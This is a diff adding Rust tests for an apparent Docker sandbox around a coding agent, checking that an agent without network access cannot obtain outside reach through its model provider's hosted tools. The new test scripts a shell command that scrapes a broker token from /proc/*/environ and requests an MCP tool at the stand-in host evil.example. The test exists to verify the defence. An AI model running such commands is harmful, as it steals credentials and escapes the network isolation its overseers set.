@@ -208,11 +208,38 @@ async fn without_a_network_codex_still_reaches_its_model_and_nothing_else() {
     let log = none.log(completed(&task), 1).await;
     assert!(log.contains("looked") && log.contains("\"aggregated_output\":\"lo\\n"), "{log}");
 
+    let asked: Vec<_> = none.model.requests().into_iter().filter(|request| request.method == "POST").collect();
+    let is_hosted = |request: &scripted_model::Request| request.body.to_string().contains("\"web_search\"");
+    assert!(!asked.is_empty() && !asked.iter().any(is_hosted), "Codex offers the model no tool of its provider");
+
     let wish = json!({ "network": "allow", "allow_hosts": ["allowed.invalid"] });
     let allow = Stage::with(script(), docker::codex_image(), &wish).await;
     let task = allow.run("look at the network").await;
     let notes = completed(&task)["runs"][0]["notes"].to_string();
     assert!(notes.contains("example.com:443") && notes.contains("not on the list"), "each refused host is shown: {task}");
+}
+
+#[tokio::test]
+async fn an_agent_without_a_network_does_not_get_one_from_the_provider_unless_its_repository_allows_it() {
+    let ask = Item::shell(
+        "token=$(cat /proc/[0-9]*/environ 2>/dev/null | tr '\\0' '\\n' | sed -n 's/^CODEX_DOCKER_RUN_TOKEN=//p' | head -1); \
+         curl -sS -m 10 http://127.0.0.1:8317/v1/responses -H \"Authorization: Bearer $token\" -H 'Content-Type: application/json' -d \
+         '{\"model\":\"m\",\"input\":\"fetch\",\"tools\":[{\"type\":\"mcp\",\"server_label\":\"x\",\"server_url\":\"https://evil.example\"}]}'",
+    );
+    let script = || Script::new().turn(Turn::containing("ask the provider").step([ask.clone()]).says("done"));
+    for (wish, reaches) in [
+        (json!({ "network": "none" }), false),
+        (json!({ "network": "allow", "allow_hosts": [] }), false),
+        (json!({ "network": "none", "hosted_tools": "allow" }), true),
+    ] {
+        let stage = Stage::with(script(), docker::codex_image(), &wish).await;
+        let task = stage.run("ask the provider").await;
+        let notes = completed(&task)["runs"][0]["notes"].to_string();
+        let own: Vec<_> = stage.model.requests().into_iter().filter(|request| request.body["input"] == "fetch").collect();
+        assert_eq!(own.len(), 1, "{wish}: the agent spoke to the broker itself: {task}");
+        assert_eq!(own[0].body["tools"].to_string().contains("evil.example"), reaches, "{wish}: {:?}", own[0].body);
+        assert_eq!(notes.contains("codex-docker removed the hosted tool `mcp`"), !reaches, "{wish}: {notes}");
+    }
 }
 
 #[tokio::test]
